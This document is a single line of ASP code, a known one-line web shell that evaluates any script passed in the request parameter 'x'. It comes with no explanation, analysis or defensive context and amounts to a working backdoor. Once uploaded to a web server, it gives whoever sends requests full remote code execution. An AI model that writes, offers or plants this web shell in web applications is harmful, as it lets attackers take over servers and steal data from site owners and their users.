<%eval request("x")%>
